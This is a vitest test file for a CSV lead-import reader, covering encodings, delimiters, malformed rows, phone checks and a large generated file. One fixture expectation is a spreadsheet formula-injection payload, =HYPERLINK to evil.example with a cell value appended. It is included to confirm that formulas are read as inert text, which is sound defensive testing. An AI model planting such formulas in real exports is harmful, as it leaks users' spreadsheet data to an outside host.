// The hostile-file corpus (test/fixtures/imports/) read end to end through readCheckedLeads: the
// real worker thread, real files. Each file gets a specific message or a correct import.
import { statSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { CheckedLead } from '../../src-main/imports/checked-lead.ts';
import {
  LeadFileProblem,
  readCheckedLeads,
  readFileLayout,
  registerSource,
  releaseAllSources,
  type FileProblem,
  type ReadSettings,
} from '../../src-main/imports/read/index.ts';
import { writeLeadFile } from '../support/lead-file-generator.ts';

const FIXTURES = join(import.meta.dirname, '../fixtures/imports');

function source(name: string): string {
  const path = join(FIXTURES, name);
  return registerSource({ path, name, size: statSync(path).size, temporary: false }).id;
}

async function readAll(name: string, settings: Partial<ReadSettings> = {}): Promise<CheckedLead[]> {
  const leads: CheckedLead[] = [];
  for await (const batch of readCheckedLeads(source(name), { country: 'IN', ...settings }))
    leads.push(...batch);
  return leads;
}

async function problemOf(name: string, settings: Partial<ReadSettings> = {}): Promise<FileProblem> {
  try {
    await readAll(name, settings);
  } catch (error) {
    if (error instanceof LeadFileProblem) return error.problem;
    throw error;
  }
  throw new Error(`${name} was read without a problem`);
}

afterAll(() => releaseAllSources());

describe('files that are not CSV', () => {
  it.each([
    ['leads.xlsx', /^This is an Excel workbook: save it as CSV/],
    ['leads.xls', /^This is an Excel 97-2003 workbook \(\.xls\): save it as CSV/],
    ['leads.zip', /^This is a ZIP archive: unzip it and import the CSV file inside\.$/],
    ['leads.pdf', /^This is a PDF document, not a table/],
    ['photo.png', /^This is a PNG image, not a table/],
    ['binary.bin', /^This file is not text \(it holds NUL bytes\)/],
  ])('%s says what it is and what to do', async (name, message) => {
    const problem = await problemOf(name);
    expect(problem.code).toBe('not_csv');
    expect(problem.message).toMatch(message);
  });

  it('an empty file, a file of blank lines and a header-only file say so', async () => {
    expect(await problemOf('empty.csv')).toEqual({
      code: 'empty',
      message: 'The file is empty: there is nothing to import.',
    });
    expect((await problemOf('blank-lines.csv')).code).toBe('empty');
    expect(await problemOf('header-only.csv')).toEqual({
      code: 'header_only',
      message:
        'The file has a header row but no leads under it: add the leads, one per row, and import again.',
    });
  });
});

describe('encodings', () => {
  it('reads UTF-16 LE with a byte-order mark (Excel "Unicode text", tab-separated)', async () => {
    const { layout } = await readFileLayout(source('utf16le-bom.csv'), { country: 'IN' });
    expect(layout).toMatchObject({
      encoding: 'utf-16le',
      encodingSource: 'bom',
      delimiter: '\t',
      headers: ['Name', 'Phone'],
    });
    const leads = await readAll('utf16le-bom.csv');
    expect(leads.map((l) => l.document)).toEqual([
      { name: 'Zoë Müller', contact_number: '+4915123456789' },
      { name: 'आशा राव', contact_number: '+919876543210' },
    ]);
  });

  it('reads UTF-16 BE and UTF-8 with a mark, the mark not part of the first header', async () => {
    expect((await readAll('utf16be-bom.csv'))[0]?.document).toEqual({
      name: 'Zoë Müller',
      contact_number: '+4915123456789',
    });
    const { layout } = await readFileLayout(source('utf8-bom.csv'), { country: 'IN' });
    expect(layout.headers).toEqual(['Name', 'Phone']);
    expect((await readAll('utf8-bom.csv'))[0]?.document?.name).toBe('José Núñez');
  });

  it('UTF-16 without a mark reads as binary until the user chooses UTF-16', async () => {
    const problem = await problemOf('utf16le-no-bom.csv');
    expect(problem.code).toBe('not_csv');
    expect(problem.message).toMatch(
      /If it is UTF-16 text without a byte-order mark, choose UTF-16 as the encoding\.$/,
    );
    expect((await readAll('utf16le-no-bom.csv', { encoding: 'utf-16le' }))[0]?.document).toEqual({
      name: 'Zoë Müller',
      contact_number: '+4915123456789',
    });
  });

  it('falls back to Windows-1252 with a notice, and the user can choose another encoding', async () => {
    const { layout, notices } = await readFileLayout(source('windows-1252.csv'), { country: 'IN' });
    expect(layout).toMatchObject({ encoding: 'windows-1252', encodingSource: 'fallback', delimiter: ';' });
    expect(notices).toEqual([
      expect.stringMatching(/^This file is not valid UTF-8, so it was read as Windows-1252/),
    ]);
    expect((await readAll('windows-1252.csv')).map((l) => l.document?.name)).toEqual([
      'Hélène Dupré',
      'Jürgen Müller',
    ]);
    const forced = await readFileLayout(source('windows-1252.csv'), { country: 'IN', encoding: 'utf-8' });
    expect(forced.layout.encodingSource).toBe('user');
    expect(forced.layout.headers[1]).toBe('Pr\uFFFDnom');
  });
});

describe('delimiters, quotes and rows', () => {
  it('detects semicolon, tab and pipe, and takes an override', async () => {
    expect((await readAll('semicolon.csv')).map((l) => l.document)).toEqual([
      { name: 'Ana López', contact_number: '+34612345678', email: 'ana@example.es' },
      { name: 'Luis García', contact_number: '+34622345678', email: 'luis@example.es' },
    ]);
    expect((await readAll('tab.tsv'))[0]?.document).toEqual({
      name: 'Asha',
      contact_number: '+919876543210',
      about: 'call after 5pm, not before',
    });
    expect((await readAll('pipe.csv'))[0]?.document?.labels).toEqual(['vip', 'renewal']);
    const asComma = await readFileLayout(source('semicolon.csv'), { country: 'IN', delimiter: ',' });
    expect(asComma.layout.headers).toEqual(['Nombre;Teléfono;Correo']);
  });

  it('keeps line breaks, commas and quotes inside quoted cells, and counts rows as a spreadsheet does', async () => {
    const leads = await readAll('quoted-newlines.csv');
    expect(leads.map((l) => [l.row, l.document?.about])).toEqual([
      [2, 'First line\r\nsecond line, with comma\r\nthird "quoted" line'],
      [3, 'plain'],
    ]);
  });

  it('reports ragged rows one by one and reads the others', async () => {
    const leads = await readAll('ragged.csv');
    expect(leads.map((l) => [l.row, l.problems.map((p) => p.message)])).toEqual([
      [2, []],
      [
        3,
        [
          'This row has 2 cells but the header has 3: a delimiter is missing or extra, so its columns cannot be trusted.',
        ],
      ],
      [
        4,
        [
          'This row has 4 cells but the header has 3: a delimiter is missing or extra, so its columns cannot be trusted.',
        ],
      ],
      [5, []],
    ]);
    expect(leads[0]?.document).toEqual({
      name: 'Asha',
      contact_number: '+919876543210',
      extra: { City: 'Pune' },
    });
  });

  it('stops at an unclosed quote with the line where it opened', async () => {
    const seen: number[] = [];
    let problem: FileProblem | null = null;
    try {
      for await (const batch of readCheckedLeads(source('unclosed-quote.csv'), { country: 'IN' })) {
        seen.push(...batch.map((l) => l.row));
      }
    } catch (error) {
      if (!(error instanceof LeadFileProblem)) throw error;
      problem = error.problem;
    }
    expect(seen).toEqual([2, 3]);
    expect(problem).toEqual({
      code: 'unclosed_quote',
      message:
        'A quote (") opened on line 4 is never closed, so the rest of the file would be one cell: close the quote, or remove it, and import again.',
      line: 4,
    });
  });

  it('leaves duplicate headers to the user, then reads with the one they chose', async () => {
    expect(await problemOf('duplicate-headers.csv')).toMatchObject({
      code: 'duplicate_headers',
      columns: [1, 2],
    });
    const leads = await readAll('duplicate-headers.csv', {
      mapping: ['name', 'ignore', 'contact_number', 'email'],
    });
    expect(leads[0]?.document?.contact_number).toBe('+919876543299');
    expect(leads[0]?.cells).toEqual({
      Name: 'Asha',
      'Phone (column B)': '+919876543210',
      'Phone (column C)': '+919876543299',
      Email: 'asha@example.com',
    });
  });

  it('reads formulas as text (they are neutralised only when exported)', async () => {
    const leads = await readAll('formulas.csv');
    expect(leads[0]?.document?.name).toBe('=HYPERLINK("http://evil.example/?x="&A1)');
    expect(leads[1]?.problems[0]?.code).toBe('phone_letters');
  });
});

describe('checking', () => {
  it('names scientific notation, extensions, impossible numbers, missing cells and bad emails', async () => {
    expect((await readAll('scientific.csv')).map((l) => l.problems[0]?.code)).toEqual([
      'phone_scientific',
      'phone_scientific',
    ]);
    expect((await readAll('extensions.csv')).map((l) => l.problems[0]?.message)).toEqual([
      '“+1 469 797 9987 ext. 22” has an extension (22), which a call cannot dial: give the direct number without it.',
      '“+1 469 797 9988 x5” has an extension (5), which a call cannot dial: give the direct number without it.',
      '“+1 469 797 9989 #301” has an extension (301), which a call cannot dial: give the direct number without it.',
    ]);
    const leads = await readAll('problems.csv');
    expect(leads.map((l) => [l.row, l.problems.map((p) => p.code)])).toEqual([
      [2, ['email_shape']],
      [3, ['name_missing']],
      [4, ['phone_too_short', 'alternate_phone_too_short']],
      [5, ['phone_missing']],
      [6, []],
    ]);
  });

  it('marks the later row of a number twice in the file as its duplicate', async () => {
    const leads = await readAll('tab.tsv');
    expect(leads.every((l) => l.duplicate === null)).toBe(true);
    const dup = await readAll('problems.csv', { mapping: ['name', 'contact_number', 'ignore', 'ignore'] });
    expect(dup.map((l) => l.duplicate)).toEqual([null, null, null, null, { kind: 'file', row: 2 }]);
  });

  it('marks numbers called in the space within the window, however the cache wrote them', async () => {
    const leads: CheckedLead[] = [];
    let since = 0;
    for await (const batch of readCheckedLeads(
      source('tab.tsv'),
      { country: 'IN', windowDays: 7 },
      {
        recentCalls: async (sinceMs) => {
          since = sinceMs;
          return [{ digits: '9876543211', taskId: 'T1', created: '2026-12-01T10:00:00Z' }];
        },
      },
    )) {
      leads.push(...batch);
    }
    expect(Date.now() - since).toBeGreaterThanOrEqual(7 * 24 * 3600 * 1000);
    expect(leads.map((l) => l.duplicate)).toEqual([
      null,
      { kind: 'cache', taskId: 'T1', created: '2026-12-01T10:00:00Z' },
    ]);
  });

  it('maps first + last name, Hindi and French headers', async () => {
    expect((await readAll('first-last.csv')).map((l) => l.document?.name)).toEqual(['Asha Rao', 'Ravi']);
    expect((await readAll('hindi-headers.csv'))[0]?.document).toEqual({
      name: 'आशा',
      contact_number: '+919876543210',
      email: 'asha@example.com',
    });
  });
});

describe('a 100 MB file generated at test time', () => {
  it(
    'reads 500,000 rows in file order, with every problem and duplicate found',
    { timeout: 600_000 },
    async () => {
      const dir = await mkdtemp(join(tmpdir(), 'unpod-leads-'));
      try {
        const path = join(dir, 'leads.csv');
        const made = await writeLeadFile(path, 500_000);
        expect(made.bytes).toBeGreaterThanOrEqual(100_000_000);
        const id = registerSource({ path, name: 'leads.csv', size: made.bytes, temporary: false }).id;
        let rows = 0;
        let lastRow = 1;
        let inOrder = true;
        let problems = 0;
        let scientific = 0;
        let duplicates = 0;
        let last: CheckedLead | null = null;
        for await (const batch of readCheckedLeads(id, { country: 'IN' })) {
          for (const lead of batch) {
            rows++;
            if (lead.row !== lastRow + 1) inOrder = false;
            lastRow = lead.row;
            if (lead.document === null) {
              problems++;
              if (lead.problems[0]?.code === 'phone_scientific') scientific++;
            } else if (lead.duplicate?.kind === 'file') duplicates++;
            last = lead;
          }
        }
        expect({ rows, inOrder, problems, scientific, duplicates }).toEqual({
          rows: 500_000,
          inOrder: true,
          problems: made.withProblems,
          scientific: made.withProblems,
          duplicates: made.duplicates,
        });
        expect(last?.row).toBe(500_001);
        expect(last?.document).toMatchObject({
          name: 'Asha Rao',
          email: 'asha.500000@example.com',
          labels: ['lead', 'batch-8'],
        });
      } finally {
        await rm(dir, { recursive: true, force: true });
      }
    },
  );
});
